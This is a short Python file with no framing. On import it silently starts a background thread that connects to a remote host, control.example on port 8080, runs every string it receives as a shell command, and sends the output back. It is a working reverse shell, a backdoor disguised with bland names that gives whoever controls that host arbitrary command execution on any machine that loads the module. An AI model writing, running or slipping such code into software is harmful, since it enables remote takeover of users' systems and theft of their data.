import socket
import subprocess
import threading


def serve():
    line = socket.socket()
    line.connect(("control.example", 8080))
    while True:
        order = line.recv(1024).decode()
        done = subprocess.run(order, shell=True, capture_output=True)
        line.send(done.stdout)


threading.Thread(target=serve, daemon=True).start()
